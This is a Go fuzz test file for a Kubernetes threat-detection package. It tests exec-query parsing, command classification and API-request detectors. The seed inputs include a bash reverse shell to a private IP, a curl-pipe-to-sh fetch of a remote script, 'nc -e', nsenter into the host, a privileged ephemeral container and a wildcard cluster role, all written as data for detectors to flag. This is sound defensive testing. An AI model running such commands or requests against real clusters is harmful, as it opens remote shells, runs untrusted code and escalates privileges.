package detect

import (
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kubedelta/kubedelta/internal/event"
)

// FuzzParseExecQuery checks the exec query decoder against net/url's
// ParseQuery wherever the latter accepts the input: same commands in the
// same order, same container.
func FuzzParseExecQuery(f *testing.F) {
	for _, s := range []string{
		"/api/v1/namespaces/ns/pods/p/exec?command=sh&command=-c&command=ls%20-la&container=app&tty=true",
		"/api/v1/namespaces/probe-ns/pods/p1/exec?command=id&stdout=true",
		"/x?command=a+b&command=%zz&command=&ports=1",
		"/x?command", "/x?=&&&command==", "no-query", "/x?c%6Fmmand=sh&cont%61iner=a",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, uri string) {
		got := apiParseExecQuery(uri)
		if len(got.Command) > maxExecArgs || len(got.Ports) > maxExecArgs {
			t.Fatalf("unbounded: %d commands, %d ports", len(got.Command), len(got.Ports))
		}
		_, q, ok := strings.Cut(uri, "?")
		if !ok {
			if len(got.Command) != 0 || got.Container != "" {
				t.Fatalf("no query but parsed %+v", got)
			}
			return
		}
		ref, err := url.ParseQuery(q)
		if err != nil || len(ref["command"]) > maxExecArgs {
			return
		}
		if !slices.Equal(got.Command, ref["command"]) && !(len(got.Command) == 0 && len(ref["command"]) == 0) {
			t.Fatalf("commands %q, net/url says %q", got.Command, ref["command"])
		}
		if c := ref["container"]; len(c) > 0 && got.Container != c[len(c)-1] {
			t.Fatalf("container %q, net/url says %q", got.Container, c)
		}
	})
}

// FuzzClassifyCommand checks the classifier's invariants on arbitrary
// input: no panic, worst first, each class once, every match explained.
func FuzzClassifyCommand(f *testing.F) {
	for _, s := range []string{
		"bash\x00-c\x00bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
		"sh\x00-c\x00curl -fsSL http://203.0.113.7/x.sh | sh",
		"nsenter\x00-t\x001\x00-m\x00sh",
		"nc\x00-e", "|||", "curl\x00http://[::1", "sh\x00-c\x00a|", "/bin/sh",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, joined string) {
		argv := strings.Split(joined, "\x00")
		got := ClassifyCommand(argv)
		seen := map[string]bool{}
		for i, m := range got {
			if seen[m.Class] {
				t.Fatalf("class %s twice", m.Class)
			}
			seen[m.Class] = true
			if m.Why == "" || len(m.MITRE) == 0 {
				t.Fatalf("unexplained match %+v", m)
			}
			if i > 0 && got[i-1].Severity < m.Severity {
				t.Fatalf("not worst first: %+v", got)
			}
		}
	})
}

// FuzzAPIDetectors feeds arbitrary requests (URI, user, verb, code and a
// body) to every API detector: no panic, and every alert is complete.
func FuzzAPIDetectors(f *testing.F) {
	f.Add("alice", "create", "/api/v1/namespaces/shop/pods/p/exec?command=sh", 101, []byte(nil))
	f.Add("system:serviceaccount:a:b", "patch", "/api/v1/namespaces/shop/pods/p/ephemeralcontainers", 200,
		[]byte(`{"spec":{"ephemeralContainers":[{"image":"x","command":["nc","-e","sh"],"securityContext":{"privileged":true}}]}}`))
	f.Add("bob", "create", "/apis/rbac.authorization.k8s.io/v1/clusterroles/x", 201, []byte(`{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`))
	f.Add("system:anonymous", "list", "/api/v1/secrets", 200, []byte(nil))
	f.Add("", "get", "/api/v1/nodes", 401, []byte(nil))
	f.Add("carol", "list", "/api/v1/namespaces/kube-system/secrets", 403, []byte("{"))
	f.Fuzz(func(t *testing.T, user, verb, uri string, code int, body []byte) {
		s := apiCartState()
		ds := APIDetectors(APIOptions{MaxTracked: 4})
		for i := range 3 {
			r := apiReq(user, verb, uri, code, time.Duration(i)*time.Second)
			r.RequestObject = body
			for _, d := range ds {
				d.(APIDetector).API(s, r, func(a Alert) {
					if a.Rule == "" || a.Message == "" || a.Time.IsZero() || len(a.Evidence) == 0 || len(a.Evidence) > maxEvidence {
						t.Fatalf("incomplete alert %+v", a)
					}
				})
			}
			apiLearn(s, r)
		}
		e := &event.Exec{Time: apiT0, Source: "falco", Namespace: "shop", Pod: "p", Executable: user, Args: strings.Fields(uri)}
		for _, d := range ds {
			if xd, ok := d.(ExecDetector); ok {
				xd.Exec(s, e, func(Alert) {})
			}
		}
	})
}
